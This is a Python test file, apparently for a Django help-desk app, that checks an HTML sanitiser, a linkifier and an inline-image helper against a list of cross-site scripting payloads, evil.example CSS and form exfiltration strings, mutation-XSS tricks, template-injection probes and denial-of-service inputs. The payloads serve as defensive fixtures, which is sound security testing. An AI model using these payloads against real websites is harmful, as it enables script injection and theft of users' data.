from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import example, given
from hypothesis import strategies as st

from kefu.lib.html import clean_html, linkify, with_pictures

ATTACKS = [
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import 'http://evil.example/x';input[value^=a]{background:url(//evil.example)}</style>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" onclick=alert(1)>x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/console/">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p style="background:url(//evil.example)" class="console" id="main">x</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<template><script>alert(1)</script></template><base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
    "{{7*7}} {% debug %} ${x} <%= x %>",
]
TAGS = st.sampled_from(
    ["a", "p", "svg", "math", "style", "script", "table", "mtext", "title", "textarea", "x", "!--"]
)
MARKUP = st.lists(
    st.one_of(
        st.builds(lambda tag: f"<{tag}>", TAGS),
        st.builds(lambda tag: f"</{tag}>", TAGS),
        st.builds(lambda tag, text: f'<{tag} href="{text}" onload=x style=y>', TAGS, st.text(max_size=12)),
        st.sampled_from([*ATTACKS, "-->", "]]>", "&lt;", "<", ">", "javascript:"]),
        st.text(max_size=6),
    ),
    max_size=10,
).map("".join)


@pytest.mark.parametrize("html", ATTACKS)
def test_attacks_come_out_harmless(html: str) -> None:
    _is_harmless(clean_html(html))


@given(MARKUP)
def test_any_markup_comes_out_harmless_and_cleaning_it_again_changes_nothing(html: str) -> None:
    cleaned = clean_html(html)
    _is_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


def test_what_people_write_is_kept() -> None:
    start, link, end = (
        "<p>Hello <b>Lin</b><br>see ",
        "https://help.example/x?a=1&amp;b=2",
        "this</a></p><ol><li>1</li></ol>",
    )
    cleaned = clean_html(f'{start}<a href="{link}">{end}')
    assert isinstance(cleaned, SafeString)
    assert cleaned == f'{start}<a href="{link}" target="_blank" rel="noopener nofollow">{end}'


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("看 https://help.example/a?b=1&c=2，谢谢", ["https://help.example/a?b=1&c=2"]),
        ("看https://help.example/查一下", ["https://help.example/"]),
        ("（https://help.example/a）。", ["https://help.example/a"]),
        ("「http://help.example」", ["http://help.example"]),
        (
            "see https://help.example/a_(b). Or (https://help.example/c)!",
            ["https://help.example/a_(b)", "https://help.example/c"],
        ),
        ("HTTPS://HELP.EXAMPLE", ["HTTPS://HELP.EXAMPLE"]),
        ("写信给lin@example.com。", ["mailto:lin@example.com"]),
        ("mail a.b+c@mail.example.com, please", ["mailto:a.b+c@mail.example.com"]),
        ("https://a.example https://b.example", ["https://a.example", "https://b.example"]),
        ("javascript:alert(1) data:text/html,x ftp://a.example file:///etc/passwd //a.example", []),
        ("https://brand.example@evil.example/", []),
        ("https://", []),
        ("a @ b, @lin, lin@", []),
        ("没有链接", []),
    ],
)
def test_addresses_become_links_and_nothing_else_does(text: str, links: list[str]) -> None:
    page = linkify(text)
    assert _links(page) == links
    assert _text(page) == text
    assert page.count('rel="noopener nofollow"') == len(links)


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://a.example/a/%E9%80%80%E8%B4%A7/#s-%E8%BF%90%E8%B4%B9", "https://a.example/a/退货/#s-运费"),
        ("https://a.example/%E2%80%AEfdp.exe", "https://a.example/%E2%80%AEfdp.exe"),  # writes backwards
        ("https://a.example/%E9%80", "https://a.example/%E9%80"),
        ("https://a.example/a%2Fb%20c", "https://a.example/a%2Fb%20c"),
    ],
)
def test_an_address_is_shown_as_it_is_read(address: str, shown: str) -> None:
    page = linkify(f"见 {address} 。")
    assert _links(page) == [address]
    assert _text(page) == f"见 {shown} 。"


@given(
    st.lists(
        st.one_of(
            st.text(max_size=8), st.sampled_from([*ATTACKS, "https://a.example", "@b.example", '"', "'", "&"])
        )
    ).map("".join)
)
@example('https://a.example/"onmouseover="alert(1)')
@example("https://a.example/'><script>alert(1)</script>")
def test_any_text_is_shown_as_it_is_and_does_nothing(text: str) -> None:
    page = linkify(text)
    assert isinstance(page, SafeString)
    _is_harmless(page)
    assert _text(page).replace("\r", "\n").replace("\0", "") == text.replace("\r", "\n").replace("\0", "")


@pytest.mark.parametrize(
    "text",
    ["a" * 20_000 + "@", "https://" * 2_500, "a@" * 10_000, "https://a.a/(" + ")" * 20_000],
)
def test_the_longest_message_is_shown_in_milliseconds(text: str) -> None:
    began = time.process_time()
    linkify(text)
    assert time.process_time() - began < 0.5


class _Reader(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def test_a_picture_stands_where_it_is_named_once_and_never_within_a_tag() -> None:
    html = SafeString('<p title="![a.png]">![a.png] and ![a.png], ![b &amp; c.png], ![gone.png]</p>')
    made, shown = with_pictures(html, [("b & c.png", "1@x"), ("a.png", "2@x"), ("left.png", "3@x")])
    first, second = (
        f'<img src="cid:{id_}" alt="{name}" style="max-width:100%">'
        for id_, name in (("2@x", "a.png"), ("1@x", "b &amp; c.png"))
    )
    assert made == f'<p title="![a.png]">{first} and [a.png], {second}, [gone.png]</p>'
    assert shown == {0, 1} and isinstance(made, SafeString)


@pytest.mark.parametrize("html", ["<" * 20_000, '<a "' * 5000, "![" * 20_000])
def test_looking_for_pictures_takes_no_time(html: str) -> None:
    began = time.process_time()
    with_pictures(SafeString(html), [("a.png", "1@x")])
    assert time.process_time() - began < 1.5


def _is_harmless(html: str) -> None:
    for tag, attributes in _Reader(html).tags:
        assert tag not in (
            "img",
            "script",
            "style",
            "iframe",
            "form",
            "input",
            "svg",
            "math",
            "base",
            "meta",
            "link",
        )
        assert set(attributes) <= {"href", "title", "rel", "target", "colspan", "rowspan", "start"}
        target = attributes.get("href")
        assert target is None or target.lower().startswith(("http://", "https://", "mailto:", "tel:")), target


def _links(html: str) -> list[str | None]:
    return [attributes["href"] for tag, attributes in _Reader(html).tags if tag == "a"]


def _text(html: str) -> str:
    return _Reader(html).text
